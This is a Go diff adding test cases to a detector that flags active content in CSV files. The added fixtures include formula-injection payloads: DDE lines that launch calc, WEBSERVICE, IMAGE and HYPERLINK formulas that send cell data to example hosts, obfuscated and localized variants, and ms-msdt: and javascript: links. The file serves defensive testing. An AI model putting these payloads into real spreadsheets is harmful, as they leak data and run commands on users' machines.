@@ -1,6 +1,7 @@
 package corpus
 
 import (
+	"fmt"
 	"strings"
 
 	"airlock"
@@ -118,6 +119,9 @@ func tableCases() []Case {
 	add("in-utf16.csv", "", string(inUTF16("a\tb\r\n1\t2\r\n")))
 	add("of-tabs.tsv", "", "a\tb\n1\t2\n")
 	add("with-text-of-calls.csv", "", "note\n- call (me) back | please!\n- exec(utive) summary\n")
+	add("with-words-of-functions.csv", "", "note\n-Call(s) per day\n-rtd(1)\n+shell(oil)\n+call(foo)\n-shell(s)\n@register(name)\n=== register (2) ===\n=a|b!\n\"-hyperlink(a&b)\"\n- Image (1) & x\n- Webservice (REST)\n")
+	add("with-names-of-functions.csv", "", "a,\"=IF(A1=\"\"webservice\"\",1,2)\"\n=SUM(ImportData)\n\"=HYPERLINK(\"\"https://example.org/webservice\"\",\"\"\"\")\"\n=IMAGE(\"https://example.org/a.png\")\n")
+	add("with-a-long-link.csv", "", "=HYPERLINK(\"https://example.org/"+strings.Repeat("a", 600)+"?a&b\")\n")
 	add("of-json-lines.csv", "", "{\"a\":1}\n{\"a\":2}\n")
 
 	add("with-dde.csv", airlock.ActiveContent, "a,b\n=cmd|' /C calc'!A0,1\n")
@@ -134,6 +138,21 @@ func tableCases() []Case {
 	add("that-fetches.csv", airlock.ActiveContent, "=WEBSERVICE(\"https://example.com/?\"&A1)\n")
 	add("that-fetches-inside-a-formula.csv", airlock.ActiveContent, "a,\"=CONCAT(\"\"x\"\",IMPORTXML(\"\"https://example.com/\"\",\"\"//a\"\"))\"\n")
 	add("with-a-link-that-sends-cells.csv", airlock.ActiveContent, "=HYPERLINK(\"https://example.com/?x=\"&A1&B1,\"click\")\n")
+	long := strings.Repeat("a", 600)
+	for i, f := range []string{
+		`=COM.MICROSOFT.WEBSERVICE("https://example.org/?"&A1)`, `=WEBDIENST("https://example.org/?"&A1)`, `=SERVICEWEB("https://example.org/?"&A1)`,
+		`=SERVIZIO.WEB("https://example.org/?"&A1)`, `=ВЕБСЛУЖБА("https://example.org/?"&A1)`, `=AUFRUFEN("inert";"x";"JJ")`,
+		`=LIEN_HYPERTEXTE("https://example.org/?"&A1)`, `=HYPERLINK("https://example.org/` + long + `"&A1)`, `=HYPERLINK(""&"https://example.org/?"&A1)`,
+		`=IMAGE("https://example.org/` + long + `"&A1)`, `=IMAGE(""&"https://example.org/?"&A1)`, `=IMAGE(A2)`, `=BILD(A2)`,
+		`=HYPERLINK("vnd.sun.star.script:x?language=Basic")`, `=HYPERLINK("vnd.libreoffice.command:x")`, `=HYPERLINK("ms-msdt:/id x")`, `=HYPERLINK("javascript:alert(1)")`,
+		`=IMPORTTEXT("https://example.org/?"&A1)`, `=IMPORTCSV("https://example.org/?"&A1)`, `=LET(f;WEBSERVICE;f("https://example.org/?"&A1))`, `=MAP(A1:A9;_xleta.WEBSERVICE)`,
+		`+ WEBSERVICE("https://example.org/?"&A1)`, `+WEBSERVICE ("https://example.org/?"&A1)`, "=\u00a0WEBSERVICE\u00a0(\"https://example.org/?\"&A1)", "=WEBSERVICE\uff08\"https://example.org/?\"&A1)",
+		`+ HYPERLINK("https://example.org/?"&A1)`, `-CALL( "inert")`, `@rtd("inert")`,
+	} {
+		add(fmt.Sprintf("that-runs-or-fetches-%d.csv", i+1), airlock.ActiveContent, "a;b\nx;"+f+"\n")
+	}
+	add("with-a-separator-of-two.csv", airlock.ActiveContent, "sep=:;\nx:=cmd|'/C calc'!A0\n")
+	add("with-a-separator-and-others.csv", airlock.ActiveContent, "sep=:,,,\nx:=cmd|'/C calc'!A0\n")
 	add("with-a-link-to-a-share.csv", airlock.ActiveContent, "=HYPERLINK(\"\\\\192.0.2.1\\share\",\"click\")\n")
 	add("before-a-script.csv", airlock.ActiveContent, "a,b\n1,<script>alert(1)</script>\n")
 	add("that-is-sylk.csv", airlock.TypeMismatch, "ID;PWXL;N;E\nO;E\nC;X1;Y1;K0;EEXEC(\"inert\")\nE\n")
